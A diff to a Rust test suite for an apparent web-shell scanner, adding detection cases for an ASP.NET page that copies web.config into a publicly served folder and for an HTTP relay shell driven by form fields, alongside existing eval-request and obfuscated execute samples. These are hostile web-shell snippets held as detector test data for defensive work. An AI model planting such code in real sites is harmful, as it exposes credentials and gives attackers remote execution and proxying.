@@ -122,6 +122,11 @@ fn cases() -> Vec<Case> {
             "<%\nFunction Crlf()\nCrlf = Chr(13) & Chr(10)\nEnd Function\nsql = \"SELECT 1\" & Crlf()\nconn.Execute(BuildSql(\"x\"))\nResponse.Write Pad(Request(\"n\"))\n%>\n",
         ),
         case(
+            "EXRAY_Config_Copied_To_Served_File",
+            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Go(object o, EventArgs e) {\n string a = Server.MapPath(\"~/web.config\");\n string b = Server.MapPath(\"~/images/t.txt\");\n System.IO.File.Copy(a, b, true);\n}\n</script>\n",
+            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Backup(object o, EventArgs e) {\n System.IO.File.Copy(Server.MapPath(\"~/web.config\"), Server.MapPath(\"~/App_Data/web.config.bak\"), true);\n}\n</script>\n",
+        ),
+        case(
             "EXRAY_ASP_Execute_Char_Pieces",
             "<%\nexecute \"\" & (\"ex\"&\"e\"&\"cu\"&\"te\"&\" \"&\"re\"&\"q\"&\"ue\"&\"st\"&\"(9)\")\n%>\n",
             "<%\nline = \"<\" & \"td\" & \">\" & name & \"</\" & \"td\" & \">\"\nconn.Execute(\"UPDATE t SET a = \" & n)\n%>\n",
@@ -570,6 +575,9 @@ fn obfuscated_one_liner_variants() {
         gbk_hits.contains("EXRAY_Remote_Fetch_To_Disk"),
         "{gbk_hits:?}"
     );
+    // A relay whose target comes from oddly named form fields and whose body is the caller's.
+    let relay = "<%@ Page Language=\"C#\" %>\n<%\nstring u = Request.Form[\"Remoteserver\"] + Request.Form[\"Endpoint\"];\nbyte[] b = new byte[Request.ContentLength];\nRequest.InputStream.Read(b, 0, b.Length);\nvar r = (HttpWebRequest)WebRequest.Create(u);\nr.Method = \"POST\";\nr.GetRequestStream().Write(b, 0, b.Length);\nResponse.Write(new StreamReader(r.GetResponse().GetResponseStream()).ReadToEnd());\n%>";
+    assert!(hits(relay).contains("EXRAY_HTTP_Proxy_Request_Url"));
     // A GIF header in front changes nothing.
     let gif = "GIF89a\n<%eval request(\"i\")%>";
     assert!(hits(gif).contains("EXRAY_Eval_Request_Direct"));
